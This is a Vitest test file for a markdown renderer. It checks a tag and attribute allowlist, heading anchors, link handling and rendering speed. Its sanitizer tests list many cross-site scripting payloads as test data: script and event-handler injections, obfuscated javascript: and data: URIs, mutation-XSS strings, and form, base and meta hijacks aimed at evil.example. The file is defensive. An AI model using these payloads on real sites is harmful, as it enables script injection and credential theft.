import { describe, expect, test } from 'vitest';
import { renderMarkdown } from './markdown.ts';

const html = (source: string, locale: Parameters<typeof renderMarkdown>[1] = 'en-US') =>
  renderMarkdown(source, locale).html.trim();

/** Everything in a piece of HTML that is not on the list, found without the library that is on trial. */
function strangersIn(out: string): string[] {
  const strangers: string[] = [];
  const tags = /^(?:h[2-4]|p|br|hr|ul|ol|li|blockquote|pre|code|strong|em|s|a|table|thead|tbody|tr|th|td)$/;
  for (const [whole, closes, name = '', rest = ''] of out.matchAll(/<(\/?)([^\s/>]*)([^>]*)>?/g)) {
    if (!tags.test(name) || !whole.endsWith('>')) strangers.push(whole);
    for (const [, attribute = '', value = ''] of rest.matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)) {
      const fits =
        (attribute === 'href' &&
          name === 'a' &&
          /^(?:https?:\/\/|mailto:|#|\/(?![/\\]))/.test(value) &&
          // eslint-disable-next-line no-control-regex
          !/[\u0000-\u0020]/.test(value)) ||
        (attribute === 'rel' && value === 'noopener noreferrer') ||
        (attribute === 'id' && value.startsWith('t-')) ||
        (attribute === 'start' && /^\d+$/.test(value)) ||
        (attribute === 'scope' && value === 'col');
      if (closes || !fits) strangers.push(`${name} ${attribute}=${value}`);
    }
  }
  return strangers;
}

describe('what must not get into a page', () => {
  test.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example></sCrIpT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
    '<p style="position:fixed;inset:0">over everything</p>',
    '<form action="https://evil.example"><input name=password></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href=//evil.example>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](java\nscript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](&#x6A&#x61vascript:alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x](%6Aavascript:alert(1))',
    '[x](\u0001javascript:alert(1))',
    '[x](\u200Bjavascript:alert(1))',
    '[x](\uFEFFjavascript:alert(1))',
    '[x](ｊavascript:alert(1))',
    '[x](javaſcript:alert(1))',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](data:image/svg+xml,<svg onload=alert(1)>)',
    '[x](file:///etc/passwd)',
    '[x](blob:https://shop.test/1)',
    '[x](//evil.example/a)',
    String.raw`[x](/\evil.example/a)`,
    String.raw`[x](\\evil.example)`,
    '[x](https://a.example/"onmouseover="alert(1))',
    '[x](<https://a.example/" onmouseover="alert(1)>)',
    '[x](https://a.example "title\\" onmouseover=\\"alert(1)")',
    '<javascript:alert(1)>',
    '<data:text/html,x>',
    '[ref]\n\n[ref]: javascript:alert(1) "t"',
    '![x](https://evil.example/pixel.png)',
    '![x](javascript:alert(1))',
    '![x"onerror="alert(1)](a.png)',
    '[![x](x)](javascript:alert(1))',
    '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
    '`<img src=x onerror=alert(1)>`',
    '# <img src=x onerror=alert(1)>',
    '# "onmouseover="alert(1)',
    '# boot',
    '| <script> | b |\n| - | - |\n| <svg/onload=alert(1)> | [x](javascript:alert(1)) |',
    '> > > <details open ontoggle=alert(1)>',
    '1. <img src=x onerror=alert(1)>\n2. [x](javascript:1)',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '\u202E<script>alert(1)</script>',
    '<a href=`javascript:alert(1)`>x</a>',
    '<x/onclick=alert(1)//>',
    '[a](<javascript:alert(1)>)',
    '[<img src=x onerror=alert(1)>](https://a.example)',
    '<style>@import "//evil.example";</style>',
    '<template><script>alert(1)</script></template>',
    '<textarea><img src="</textarea><img src=x onerror=alert(1)>">',
    `${'['.repeat(200)}x${']'.repeat(200)}(javascript:alert(1))`,
    `${'> '.repeat(300)}<script>alert(1)</script>`,
  ])('%j', (source) => {
    expect(strangersIn(html(source))).toEqual([]);
    expect(strangersIn(html(source, 'ar'))).toEqual([]);
  });

  test('and the check sees them where they are', () => {
    for (const bad of [
      '<script>',
      '<p onclick="x">',
      '<a href="javascript:1">',
      '<a href="//e">',
      '<img src="x">',
      '<h2 id="boot">',
      '<p',
      '<a href="java\tscript:x">',
    ])
      expect(strangersIn(bad), bad).not.toEqual([]);
  });
});

test('a heading begins at h2, has an anchor, and is in the table of contents', () => {
  const { html: out, headings } = renderMarkdown(
    '# One\n\n## Two & three\n\n### Small\n\n## One\n\n## 返品',
    'ja',
  );
  expect(headings).toEqual([
    { id: 't-one', text: 'One' },
    { id: 't-two-three', text: 'Two & three' },
    { id: 't-one-2', text: 'One' },
    { id: 't-返品', text: '返品' },
  ]);
  expect(out).toContain('<h2 id="t-one">One</h2>');
  expect(out).toContain('<h3 id="t-small">Small</h3>');
  expect(out).not.toContain('<h1');
});

test('the elements that texts need are kept', () => {
  const out = html('A **b** *c* `d`.\n\n- one\n- two\n\n3. three\n\n> said\n\n| h |\n| - |\n| cell |\n\n---');
  for (const piece of [
    '<strong>b</strong>',
    '<em>c</em>',
    '<code>d</code>',
    '<li>one</li>',
    '<ol start="3">',
    '<blockquote>',
    '<th scope="col">h</th>',
    '<td>cell</td>',
    '<hr />',
  ])
    expect(out).toContain(piece);
});

test('a link keeps its address, and one inside the store keeps the language', () => {
  expect(html('[x](https://a.example/b?c=d)')).toContain(
    '<a href="https://a.example/b?c=d" rel="noopener noreferrer">x</a>',
  );
  expect(html('[x](/feedback)')).toContain('<a href="/feedback">x</a>');
  expect(html('[x](/games?sort=2#top)', 'cz')).toContain('<a href="/games?sort=2&amp;lang=cz#top">x</a>');
  expect(html('[x](#t-one)', 'de')).toContain('<a href="#t-one">x</a>');
  expect(html('<mailto:help@a.example>')).toContain('href="mailto:help@a.example"');
});

test('the longest text that can be saved takes no time to speak of', () => {
  const nasty = ['[', '*', '`', '> ', '| a ', '- ', '<a ', '![', '&', '~~'].map((piece) =>
    piece.repeat(Math.floor(40_000 / piece.length)),
  );
  for (const source of nasty) {
    const from = process.cpuUsage();
    html(source);
    expect(process.cpuUsage(from).user / 1_000, source.slice(0, 3)).toBeLessThan(4_000);
  }
});
